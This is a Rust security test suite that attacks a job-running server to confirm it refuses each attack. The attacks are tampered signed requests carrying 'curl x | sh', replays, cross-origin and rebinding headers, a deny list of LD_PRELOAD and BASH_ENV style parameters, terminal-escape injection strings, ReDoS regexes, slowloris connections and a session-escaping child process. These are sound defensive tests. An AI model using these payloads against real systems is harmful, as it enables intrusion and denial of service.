//! A real `cocpit serve` attacked over HTTP: captured signatures carrying another body or sent
//! twice, probing for keys, a browser reaching a `--no-auth` server, a script reading the
//! server's secrets, parameters that steer the interpreter, password guessing.

mod common;

use common::server::{AK, Api, Server, cocpit, spawn_serving};
use serde_json::{Value, json};

/// Creates a SHELL script with `params` (`[{"param_name", "param_value", "param_order",
/// "sensitive"}]`); its uuid.
async fn shell_script(api: &Api, name: &str, content: &str, params: Value) -> String {
    api.ok(
        "POST",
        "/v1/job/scripts",
        Some(json!({
            "name": name, "type": "SHELL", "description": "d", "content": content,
            "properties": {"risk_level": "LOW", "version": "1.0"},
            "script_params": params
        })),
    )
    .await
    .as_str()
    .unwrap()
    .to_string()
}

/// Runs a script on one host with the given parameter values; the order's execute_uuid.
async fn run_on(api: &Api, uuid: &str, host: &str, timeout: i64, given: Value) -> String {
    api.ok(
        "POST",
        &format!("/v1/job/scripts/{uuid}"),
        Some(json!({
            "execute_param": {"resourceful": true, "timeout": timeout, "success_rate": 100,
                              "execute_user": "root", "script_params": given},
            "execute_batches": [{"batch_index": 1, "rotation_strategy": "CONTINUE",
                                 "target_instances": [{"resource_id": host}]}]
        })),
    )
    .await
    .as_str()
    .unwrap()
    .to_string()
}

/// One plain parameter declared with its default.
fn dir_param(dir: &std::path::Path) -> Value {
    json!([{"param_name": "dir", "param_value": dir.display().to_string(),
            "param_order": 1, "sensitive": false}])
}

async fn text(r: reqwest::Response) -> (u16, String) {
    let status = r.status().as_u16();
    (status, r.text().await.unwrap())
}

#[tokio::test]
async fn a_captured_signature_carries_neither_another_body_nor_a_second_write() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    let body = serde_json::to_vec(&json!({
        "name": "captured", "type": "SHELL", "content": "echo ok",
        "description": "d", "properties": {"risk_level": "LOW", "version": "1.0"}
    }))
    .unwrap();
    // Signed with the payload hash header, as some signers send it.
    let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&body));
    let send = |b: Vec<u8>| {
        api.signed("POST", "/v1/job/scripts", &body)
            .header("X-Sdk-Content-Sha256", hash.clone())
            .body(b)
    };
    // The header came after signing (unsigned): another body under it is refused.
    let evil = br#"{"name":"evil","type":"SHELL","content":"curl x | sh","description":"d","properties":{"risk_level":"LOW","version":"1.0"}}"#;
    let (status, answer) = text(send(evil.to_vec()).send().await.unwrap()).await;
    assert_eq!(status, 401, "{answer}");
    assert!(answer.contains("X-Sdk-Content-Sha256"), "{answer}");
    // The signed request itself works once; sent again it is a replay.
    let signed = api.signed("POST", "/v1/job/scripts", &body);
    let again = signed.try_clone().unwrap();
    let (status, answer) = text(signed.send().await.unwrap()).await;
    assert_eq!(status, 200, "{answer}");
    let (status, answer) = text(again.send().await.unwrap()).await;
    assert_eq!(status, 401, "{answer}");
    assert!(answer.contains("replay"), "{answer}");
    let list = api.ok("GET", "/v1/job/scripts?limit=10", None).await;
    assert_eq!(list["total"], 1, "one script, not two: {list}");
    // Reads may repeat.
    let read = api.signed("GET", "/v1/job/scripts?limit=10", b"");
    let read2 = read.try_clone().unwrap();
    assert_eq!(read.send().await.unwrap().status(), 200);
    assert_eq!(read2.send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn an_unknown_key_and_a_wrong_signature_answer_alike() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let mut wrong_secret = server.client();
    wrong_secret.sk = "not-the-secret".into();
    let (s1, a1) = text(
        wrong_secret
            .signed("GET", "/v1/job/scripts?limit=1", b"")
            .send()
            .await
            .unwrap(),
    )
    .await;
    // Another access key: the same request signed by a key the server never heard of.
    let date = chrono::Utc::now()
        .format(cocpit::sign::huawei::DATE_FORMAT)
        .to_string();
    let headers = vec![
        ("Content-Type".to_string(), "application/json".to_string()),
        ("Host".to_string(), server.host.clone()),
        ("X-Sdk-Date".to_string(), date.clone()),
    ];
    let auth = cocpit::sign::huawei::authorization(
        "NOSUCHKEY00000000000",
        "whatever",
        "GET",
        "/v1/job/scripts",
        "limit=1",
        &headers,
        b"",
    );
    let (s2, a2) = text(
        reqwest::Client::new()
            .get(format!("{}/v1/job/scripts?limit=1", server.base))
            .header("Content-Type", "application/json")
            .header("X-Sdk-Date", date)
            .header("Authorization", auth)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!((s1, s2), (401, 401));
    assert_eq!(a1, a2, "the answers tell the key's existence apart");
    assert!(!a1.contains(AK) && !a1.contains("NOSUCHKEY"), "{a1}");
}

#[tokio::test]
async fn a_script_never_sees_the_servers_environment_and_parameters_cannot_steer_it() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    // PATH, LD_PRELOAD, BASH_ENV, PYTHONPATH, COCPIT_*: refused at create, naming the rule.
    for name in [
        "PATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "PYTHONPATH",
        "COCPIT_RESOURCE_ID",
        "IFS",
    ] {
        let (status, v) = api
            .call(
                "POST",
                "/v1/job/scripts",
                Some(json!({
                    "name": format!("steer_{}", name.to_lowercase()), "type": "SHELL",
                    "content": "env", "description": "d",
                    "properties": {"risk_level": "LOW", "version": "1.0"},
                    "script_params": [{"param_name": name, "param_value": "/tmp/x",
                                       "param_order": 1, "sensitive": false}]
                })),
            )
            .await;
        assert_eq!(status, 400, "{name}: {v}");
        let msg = v["error_msg"].as_str().unwrap();
        assert!(
            msg.contains("script_params[0].param_name") && msg.contains("reserved"),
            "{name}: {msg}"
        );
    }
    let uuid = shell_script(
        &api,
        "print_env",
        "env | sort",
        json!([{"param_name": "who", "param_value": "ops", "param_order": 1, "sensitive": false}]),
    )
    .await;
    let eid = run_on(&api, &uuid, "demo-01", 60, json!([])).await;
    let (_, insts) = api
        .wait(&eid, "the env script ends", |o, _| {
            o["status"] == "FINISHED"
        })
        .await;
    let out = insts[0]["message"].as_str().unwrap();
    assert!(out.contains("who=ops"), "{out}");
    assert!(out.contains("COCPIT_RESOURCE_ID=demo-01"), "{out}");
    assert!(out.contains("PATH="), "{out}");
    for secret in [
        "COCPIT_SERVE_SK",
        common::server::SK,
        "COCPIT_SERVE_TC_SECRET_KEY",
    ] {
        assert!(!out.contains(secret), "{secret} reached the script:\n{out}");
    }
}

#[tokio::test]
async fn logins_slow_down_after_a_few_wrong_passwords_and_tokens_are_long() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("d");
    std::fs::write(
        data.with_extension("toml"),
        "[inventory]\ndemo_fleet = 1\n[[serve.users]]\nname = \"ops\"\npassword = \"right-one\"\n",
    )
    .unwrap();
    let server = Server::start(&data);
    let http = reqwest::Client::new();
    let login = |password: &str| {
        http.post(format!("{}/v3/auth/tokens", server.base))
            .json(&json!({
                "auth": {"identity": {"methods": ["password"],
                         "password": {"user": {"name": "ops", "password": password}}}}
            }))
    };
    let r = login("right-one").send().await.unwrap();
    assert_eq!(r.status(), 201);
    let token = r.headers()["x-subject-token"].to_str().unwrap().to_string();
    let hex = token.trim_start_matches("MII");
    assert!(
        hex.len() >= 32 && hex.chars().all(|c| c.is_ascii_hexdigit()),
        "{token}"
    );
    for _ in 0..cocpit::server::LOGIN_FREE_TRIES {
        assert_eq!(login("guess").send().await.unwrap().status(), 401);
    }
    let r = login("guess").send().await.unwrap();
    assert_eq!(r.status(), 429);
    let wait: u64 = r.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(wait >= 1, "{wait}");
    // Even the right password waits now: guessing cannot race the backoff.
    assert_eq!(login("right-one").send().await.unwrap().status(), 429);
}

#[test]
fn a_token_lifetime_out_of_range_is_a_config_error_at_start() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, "[serve]\ntoken_ttl = 99999999999\n").unwrap();
    let out = cocpit()
        .args(["serve", "--listen", "127.0.0.1:0", "--config"])
        .arg(&cfg)
        .args(["--init", "--data"])
        .arg(dir.path().join("d"))
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("serve.token_ttl must be 1 to 86400"), "{err}");
}

/// `cocpit serve --no-auth` on a free loopback port; its base URL.
fn no_auth_server(dir: &std::path::Path) -> (std::process::Child, String) {
    std::fs::write(dir.join("c.toml"), "[inventory]\ndemo_fleet = 1\n").unwrap();
    let mut cmd = cocpit();
    cmd.args(["serve", "--no-auth", "--listen", "127.0.0.1:0", "--config"])
        .arg(dir.join("c.toml"))
        .args(["--init", "--data"])
        .arg(dir.join("d"))
        .stderr(std::process::Stdio::null());
    spawn_serving(cmd)
}

#[tokio::test]
async fn no_auth_refuses_what_a_browser_can_send() {
    let dir = tempfile::tempdir().unwrap();
    let (mut child, base) = no_auth_server(dir.path());
    let http = reqwest::Client::new();
    let url = format!("{base}/v1/job/scripts?limit=1");
    // A local program is served.
    assert_eq!(http.get(&url).send().await.unwrap().status(), 200);
    // A page of another site (Origin), a rebound name (Host), a form post (no JSON).
    let (s, a) = text(
        http.get(&url)
            .header("Origin", "https://evil.example")
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(s, 403, "{a}");
    assert!(a.contains("Origin"), "{a}");
    let (s, a) = text(
        http.get(&url)
            .header("Host", "rebound.example:8080")
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(s, 403, "{a}");
    assert!(a.contains("loopback"), "{a}");
    let (s, a) = text(
        http.post(format!("{base}/v1/job/scripts"))
            .header("Content-Type", "text/plain")
            .body(r#"{"name":"x"}"#)
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(s, 403, "{a}");
    assert!(a.contains("Content-Type: application/json"), "{a}");
    let v: Value = http.get(&url).send().await.unwrap().json().await.unwrap();
    assert_eq!(v["data"]["total"], 0, "nothing was created");
    let _ = child.kill();
    let _ = child.wait();
}

#[tokio::test]
async fn hostile_text_from_the_api_never_reaches_the_terminal_through_the_cli() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    let hostile = "ops\u{1b}]0;pwned\u{7}\u{1b}]52;c;aGk=\u{7}\u{202e}gnp.exe\u{9b}31m";
    let num = api
        .ok(
            "POST",
            "/v1/external/incident/create",
            Some(json!({
                "region": ["cn-north-4"], "enterprise_project": ["0"],
                "current_cloud_service": ["web"], "incident_level": "level_50",
                "is_service_interrupt": false, "incident_type": "inc_type_p_function_issues",
                "incident_title": format!("title {hostile}"),
                "incident_description": "d", "incident_source": "incident_source_manual",
                "incident_assignee": [hostile], "creator": hostile
            })),
        )
        .await;
    let num = num["incident_num"].as_str().unwrap();
    let out = cocpit()
        .env("HUAWEICLOUD_SDK_AK", AK)
        .env("HUAWEICLOUD_SDK_SK", common::server::SK)
        .args(["--init", "--data"])
        .arg(dir.path().join("local"))
        .args(["--endpoint", &server.base, "incident", "show", num])
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(shown.contains("title ops"), "{shown}");
    for bad in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
        assert!(
            !shown.contains(bad),
            "{bad:?} reached the terminal: {shown:?}"
        );
    }
}

/// Every byte of every file under `dir`.
fn every_file(dir: &std::path::Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut out = vec![];
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(every_file(&p));
        } else if let Ok(b) = std::fs::read(&p) {
            out.push((p, b));
        }
    }
    out
}

#[tokio::test]
async fn a_sensitive_value_is_in_no_answer_and_in_no_file_of_the_data_dir() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("d");
    let server = Server::start(&data);
    let api = server.client();
    let (default, given) = ("Def4ult-S3cret-99", "G1ven-S3cret-77");
    let uuid = shell_script(
        &api,
        "uses_secret",
        "[ \"$(printf %s \"$1\" | sha256sum | cut -c1-16)\" = \"$EXPECT\" ] || { echo \"wrong value\"; exit 9; }\necho \"ran with $1\"",
        json!([
            {"param_name": "token", "param_value": default, "param_order": 1, "sensitive": true},
            {"param_name": "EXPECT", "param_value": "x", "param_order": 2, "sensitive": false}
        ]),
    )
    .await;
    let shown = api
        .ok("GET", &format!("/v1/job/scripts/{uuid}"), None)
        .await;
    assert_eq!(
        shown["script_params"][0]["param_value"], "******",
        "{shown}"
    );
    // Modified with the masked value sent back: the stored one stays.
    let params = shown["script_params"].clone();
    api.ok(
        "PUT",
        &format!("/v1/job/scripts/{uuid}"),
        Some(json!({"description": "d2", "content": shown["content"],
                    "properties": shown["properties"], "script_params": params})),
    )
    .await;
    // The script checks the value it got against a hash of the one expected.
    let hash16 = |v: &str| {
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(v.as_bytes()))[..16].to_string()
    };
    let values = |token: Option<&str>, expect: &str| {
        let mut v =
            vec![json!({"param_name": "EXPECT", "param_value": hash16(expect), "param_order": 1})];
        if let Some(t) = token {
            v.push(json!({"param_name": "token", "param_value": t, "param_order": 2}));
        }
        Value::from(v)
    };
    for (token, expect) in [
        (None, default),
        (Some(given), given),
        (Some("******"), default),
    ] {
        let eid = run_on(&api, &uuid, "demo-01", 60, values(token, expect)).await;
        let (order, insts) = api
            .wait(&eid, "the run ends", |o, _| {
                o["status"] == "FINISHED" || o["status"] == "PAUSED"
            })
            .await;
        assert_eq!(order["status"], "FINISHED", "{token:?}: {insts:?}");
        let shown = order.to_string() + &insts[0].to_string();
        assert!(shown.contains("ran with ******"), "{shown}");
        assert!(
            !shown.contains(default) && !shown.contains(given),
            "{shown}"
        );
    }
    let list = api.ok("GET", "/v1/job/script/orders?limit=10", None).await;
    assert!(!list.to_string().contains(given));
    // At rest: neither value in any file (database, WAL, key file, logs).
    for (path, bytes) in every_file(&data) {
        for secret in [default, given] {
            let hit = bytes.windows(secret.len()).any(|w| w == secret.as_bytes());
            assert!(!hit, "{secret} in clear in {}", path.display());
        }
    }
}

/// Runs a script on `host` that leaves a detached child, kills the engine with -9, starts it
/// again, and checks both processes are gone. `inventory` is the config; `outlive` says whether
/// the processes outlive the engine until the next one starts (an ssh host) or die with it (a
/// local run's containment helper follows its engine).
async fn crash_leaves_nothing(inventory: &str, host: &str, outlive: bool) {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("d");
    let pids = dir.path().join("pids");
    std::fs::create_dir_all(&pids).unwrap();
    std::fs::write(data.with_extension("toml"), inventory).unwrap();
    let mut server = Server::start(&data);
    let api = server.client();
    let uuid = shell_script(
        &api,
        "outlives",
        "echo $$ > \"$1/main.pid\"\nsetsid sh -c 'echo $$ > \"$1/detached.pid\"; exec sleep 300' sh \"$1\" &\nsleep 300\n",
        dir_param(&pids),
    )
    .await;
    let eid = run_on(&api, &uuid, host, 600, json!([])).await;
    let read = |name: &str| -> Option<i32> {
        std::fs::read_to_string(pids.join(name))
            .ok()?
            .trim()
            .parse()
            .ok()
    };
    let deadline = std::time::Instant::now() + common::PATIENCE;
    while read("main.pid").is_none() || read("detached.pid").is_none() {
        assert!(
            std::time::Instant::now() < deadline,
            "the script never started"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let left = [read("main.pid").unwrap(), read("detached.pid").unwrap()];
    server.kill9();
    if outlive {
        assert!(
            left.iter().all(|p| common::alive(*p)),
            "killing the engine killed them"
        );
    } else {
        assert!(
            common::all_gone(&left).await,
            "a local run outlived its engine"
        );
    }
    let server = Server::start(&data);
    let api = server.client();
    let (_, insts) = api
        .wait(&eid, "the order paused", |o, _| o["status"] == "PAUSED")
        .await;
    assert_eq!(insts[0]["status"], "ABNORMAL");
    assert!(
        insts[0]["message"].as_str().unwrap().contains("was killed"),
        "{insts:?}"
    );
    assert!(
        common::all_gone(&left).await,
        "the interrupted script lives on"
    );
}

#[tokio::test]
async fn after_a_kill_9_the_next_engine_kills_what_interrupted_instances_left() {
    crash_leaves_nothing("[inventory]\ndemo_fleet = 1\n", "demo-01", false).await;
}

#[tokio::test]
async fn after_a_kill_9_what_was_left_on_an_ssh_host_is_killed_too() {
    let sshd = common::sshd::Sshd::start();
    let h = sshd.host("web-01");
    let options: Vec<String> = h.ssh_options.iter().map(|o| format!("{o:?}")).collect();
    let inventory = format!(
        "[inventory]\ndemo_fleet = 0\n[[inventory.hosts]]\nid = \"web-01\"\ntransport = \"ssh\"\n\
         destination = {:?}\nssh_options = [{}]\n",
        h.destination.unwrap(),
        options.join(", ")
    );
    crash_leaves_nothing(&inventory, "web-01", true).await;
}

#[tokio::test]
async fn a_silence_matcher_is_re2_refused_when_it_needs_backtracking() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    let silence = |value: &str| {
        json!({"matchers": [{"name": "name", "value": value, "is_regex": true}],
               "author": "ops", "comment": "", "duration_s": 600})
    };
    // Lookaround and backreferences need backtracking: refused, naming the matcher.
    for bad in [r"(?=(a|aa)*$)(a*)*\2c", r"(a)\1"] {
        let (status, v) = api
            .call("POST", "/v1/cocpit/silences", Some(silence(bad)))
            .await;
        assert_eq!(status, 400, "{v}");
        let msg = v["error_msg"].as_str().unwrap();
        assert!(
            msg.starts_with("matchers[0].value") && msg.contains("RE2"),
            "{msg}"
        );
    }
    // What a backtracking engine chokes on runs in linear time, anchored as Alertmanager does.
    api.ok("POST", "/v1/cocpit/silences", Some(silence("(a|aa)*c")))
        .await;
    api.ok("POST", "/v1/cocpit/silences", Some(silence("disk.*")))
        .await;
    let http = reqwest::Client::new();
    let push = |name: String, id: usize| {
        http.post(format!("{}/v1/event/huawei/custom/demo", server.base))
            .json(
                &json!({"alarmId": format!("a{id}"), "alarmName": name, "alarmLevel": "Major",
                          "time": 1709118444540i64, "nameSpace": "x", "applicationId": "web",
                          "alarmDesc": "d", "alarmSource": "t"}),
            )
            .send()
    };
    for i in 0..50 {
        let r = push(format!("{}b", "a".repeat(40)), i).await.unwrap();
        assert_eq!(r.status(), 200);
    }
    push("disk full".into(), 99).await.unwrap();
    push("xdisk full".into(), 98).await.unwrap();
    let shown = api
        .ok(
            "GET",
            "/v1/cocpit/alarms?include_silenced=true&limit=100",
            None,
        )
        .await;
    let alarms = shown["alarms"].as_array().unwrap();
    assert_eq!(alarms.len(), 52);
    let silenced: Vec<&str> = alarms
        .iter()
        .filter(|a| !a["silenced_by"].is_null())
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        silenced,
        ["disk full"],
        "anchored: only a whole match silences"
    );
}

/// A server with tight bounds: 4 connections, 1 s for headers and for a body.
fn tight_server(dir: &std::path::Path) -> Server {
    let data = dir.join("d");
    std::fs::write(
        data.with_extension("toml"),
        "[inventory]\ndemo_fleet = 1\n[serve]\nmax_connections = 4\nheader_timeout = 1\nbody_timeout = 1\n",
    )
    .unwrap();
    Server::start(&data)
}

/// Everything the server sends on `s` until it closes it (bounded by a read timeout).
fn read_all(s: &mut std::net::TcpStream) -> String {
    read_until_closed(s).0
}

/// What the server sends on `s`, and whether it then closed the connection (rather than the
/// 10 s read bound running out while it held it open).
fn read_until_closed(s: &mut std::net::TcpStream) -> (String, bool) {
    use std::io::Read;
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    let mut got = Vec::new();
    let closed = s.read_to_end(&mut got).is_ok();
    (String::from_utf8_lossy(&got).into_owned(), closed)
}

#[test]
fn slow_heads_idle_connections_and_stalled_bodies_are_closed_and_the_cap_holds() {
    use std::io::Write;
    use std::net::TcpStream;
    let dir = tempfile::tempdir().unwrap();
    let server = tight_server(dir.path());
    let addr = server.host.clone();
    // A head that never ends (slowloris) is closed once the header timeout passes.
    let mut slow = TcpStream::connect(&addr).unwrap();
    slow.write_all(b"GET /v1/job/scripts HTTP/1.1\r\nHost: x\r\n")
        .unwrap();
    let (answer, closed) = read_until_closed(&mut slow);
    assert!(closed, "held open: {answer:?}");
    // A declared body over the bound is refused before it is sent.
    let mut big = TcpStream::connect(&addr).unwrap();
    big.write_all(
        b"POST /v1/event/huawei/custom/demo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n",
    )
    .unwrap();
    let answer = read_all(&mut big);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    // An unknown caller is refused before its body is read.
    let mut unknown = TcpStream::connect(&addr).unwrap();
    unknown
        .write_all(
            b"POST /v1/job/scripts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\
              Authorization: SDK-HMAC-SHA256 Access=NOPE, SignedHeaders=host;x-sdk-date, Signature=00\r\n\
              X-Sdk-Date: 20240101T000000Z\r\n\r\n",
        )
        .unwrap();
    let answer = read_all(&mut unknown);
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    // A body that stalls is cut off at the body timeout.
    let mut stall = TcpStream::connect(&addr).unwrap();
    stall
        .write_all(
            b"POST /v1/event/huawei/custom/demo HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"alarm",
        )
        .unwrap();
    let answer = read_all(&mut stall);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    // Four idle connections fill the cap: a fifth gets a fast 503.
    let idle: Vec<TcpStream> = (0..4).map(|_| TcpStream::connect(&addr).unwrap()).collect();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let busy = loop {
        let mut fifth = TcpStream::connect(&addr).unwrap();
        fifth
            .write_all(b"GET /v1/job/scripts HTTP/1.1\r\nHost: x\r\n\r\n")
            .unwrap();
        let answer = read_all(&mut fifth);
        if answer.starts_with("HTTP/1.1 503") || std::time::Instant::now() > deadline {
            break answer;
        }
    };
    assert!(busy.starts_with("HTTP/1.1 503"), "{busy}");
    assert!(busy.contains("Retry-After: 1"), "{busy}");
    drop(idle);
    // Once they are gone the server serves again.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let mut again = TcpStream::connect(&addr).unwrap();
        again
            .write_all(b"GET /v1/job/scripts HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            .unwrap();
        let answer = read_all(&mut again);
        if answer.starts_with("HTTP/1.1 401") {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{answer}");
    }
}

#[tokio::test]
async fn every_free_text_field_has_a_maximum_and_readers_never_see_an_integration_key() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    let http = reqwest::Client::new();
    let custom = format!("{}/v1/event/huawei/custom/demo", server.base);
    let prom = format!("{}/v1/event/prometheus/demo-prometheus", server.base);
    let event = |extra: Value| {
        let mut e = json!({"alarmId": "x1", "alarmName": "n", "alarmLevel": "Major",
                           "time": 1709118444540i64, "nameSpace": "ns", "applicationId": "web",
                           "alarmDesc": "d", "alarmSource": "s"});
        for (k, v) in extra.as_object().unwrap() {
            e[k] = v.clone();
        }
        e
    };
    let huge = "x".repeat(1_900_000);
    let many: serde_json::Map<String, Value> =
        (0..65).map(|i| (format!("k{i}"), json!("v"))).collect();
    for (url, body, field) in [
        (
            &custom,
            event(json!({"additional": {"blob": huge}})),
            "additional.blob",
        ),
        (&custom, event(json!({"additional": many})), "additional"),
        (
            &custom,
            event(json!({"alarmDesc": "d".repeat(300)})),
            "alarmDesc",
        ),
        (
            &prom,
            json!({"version": "4", "status": "firing", "alerts": [{"status": "firing",
                   "labels": {"alertname": "a", "team": "t".repeat(5000)}, "annotations": {}}]}),
            "alerts[0].labels.team",
        ),
        (
            &prom,
            json!({"version": "4", "status": "firing", "alerts": [{"status": "firing",
                   "labels": {"alertname": "a"}, "annotations": {"summary": "s".repeat(5000)}}]}),
            "alerts[0].annotations.summary",
        ),
    ] {
        let r = http.post(url.as_str()).json(&body).send().await.unwrap();
        let status = r.status().as_u16();
        let text = r.text().await.unwrap();
        assert_eq!(status, 400, "{field}: {text}");
        assert!(text.contains(field), "{field}: {text}");
    }
    // Alarms at the bounds: a page of them stops at its byte bound and says where to go on.
    let label = "v".repeat(4096);
    for i in 0..40 {
        let labels: serde_json::Map<String, Value> =
            (0..60).map(|k| (format!("l{k}"), json!(label))).collect();
        let r = http
            .post(custom.as_str())
            .json(&event(
                json!({"alarmId": format!("big{i}"), "additional": labels}),
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
    }
    let page = api.ok("GET", "/v1/cocpit/alarms?limit=1000", None).await;
    let shown = page["alarms"].as_array().unwrap();
    assert!(
        shown.len() < 40 && !page["next_marker"].is_null(),
        "{} alarms in one page",
        shown.len()
    );
    assert!(page.to_string().len() < 6 * 1024 * 1024);
    // The key that lets anyone push is never shown to those who read.
    let text = page.to_string();
    assert!(!text.contains("\"demo\""), "the integration key is shown");
    assert!(
        shown[0]["integration_key"]
            .as_str()
            .unwrap()
            .starts_with("key:")
    );
}

#[test]
fn an_unknown_caller_is_refused_before_its_body_is_read_on_both_signatures() {
    use std::io::Write;
    use std::net::TcpStream;
    let dir = tempfile::tempdir().unwrap();
    // Default bounds: a body has 30 s to arrive, so an answer within seconds came before it.
    let server = Server::start(&dir.path().join("d"));
    let ts = chrono::Utc::now().timestamp();
    let date = chrono::Utc::now().format("%Y-%m-%d");
    let heads = [
        format!(
            "POST /v1/job/scripts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Content-Length: 100000\r\nX-Sdk-Date: {}\r\nAuthorization: SDK-HMAC-SHA256 \
             Access=NOSUCHKEY, SignedHeaders=content-type;host;x-sdk-date, Signature=00\r\n\r\n",
            chrono::Utc::now().format("%Y%m%dT%H%M%SZ")
        ),
        format!(
            "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\
             X-TC-Action: CreateCommand\r\nX-TC-Timestamp: {ts}\r\nAuthorization: TC3-HMAC-SHA256 \
             Credential=AKIDnosuchkey/{date}/tat/tc3_request, SignedHeaders=content-type;host, \
             Signature=00\r\n\r\n"
        ),
    ];
    for (head, says) in heads
        .iter()
        .zip(["HTTP/1.1 401", "AuthFailure.SecretIdNotFound"])
    {
        let mut s = TcpStream::connect(&server.host).unwrap();
        s.write_all(head.as_bytes()).unwrap();
        // Had the server waited for the body (30 s), nothing would come within the read bound.
        let (answer, closed) = read_until_closed(&mut s);
        assert!(
            answer.contains(says) && closed,
            "it waited for the body: {answer:?}"
        );
    }
}

#[tokio::test]
async fn a_child_that_clears_its_environment_and_leaves_its_session_still_ends_with_its_run() {
    let dir = tempfile::tempdir().unwrap();
    let pids = dir.path().join("pids");
    std::fs::create_dir_all(&pids).unwrap();
    let server = Server::start(&dir.path().join("d"));
    let api = server.client();
    let uuid = shell_script(
        &api,
        "escapes",
        "setsid env -i sh -c 'echo $$ > \"$0\"; exec sleep 300' \"$1/escaped.pid\" &\nwhile [ ! -s \"$1/escaped.pid\" ]; do sleep 0.02; done\necho started\n",
        dir_param(&pids),
    )
    .await;
    let eid = run_on(&api, &uuid, "demo-01", 60, json!([])).await;
    api.wait(&eid, "the run ends", |o, _| o["status"] == "FINISHED")
        .await;
    let pid: i32 = std::fs::read_to_string(pids.join("escaped.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(
        common::all_gone(&[pid]).await,
        "a child without the run's token and out of its session outlived it"
    );
}

/// The data dir holds scripts, their output and the key of sensitive values: it and its
/// databases (with their -wal and -shm) are the owner's only, whatever the umask; files made
/// before that was so are tightened on open.
#[test]
fn the_data_dir_and_its_databases_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("new").join("data");
    let setup = cocpit::config::Config::default().engine_setup();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    // What the process's own mask gives a new file, before and after the engine opens.
    let before = tmp.path().join("before");
    std::fs::write(&before, "x").unwrap();
    let engine = cocpit::engine::Engine::open(&data, &setup).unwrap();
    assert_eq!(mode(&data), 0o700, "the data dir");
    for f in ["cocpit.db", "cocpit.db-wal", "alarms.db", "alarms.db-wal"] {
        let p = data.join(f);
        assert!(p.exists(), "{f}");
        assert_eq!(mode(&p) & 0o077, 0, "{f} is {:o}", mode(&p));
    }
    // Files made later (a script's own) keep the user's mask: the engine's was given back.
    let after = tmp.path().join("after");
    std::fs::write(&after, "x").unwrap();
    assert_eq!(mode(&after), mode(&before));
    drop(engine);
    // A database left readable by an older cocpit is tightened.
    std::fs::set_permissions(
        data.join("cocpit.db"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let _engine = cocpit::engine::Engine::open(&data, &setup).unwrap();
    assert_eq!(mode(&data.join("cocpit.db")), 0o600);
}
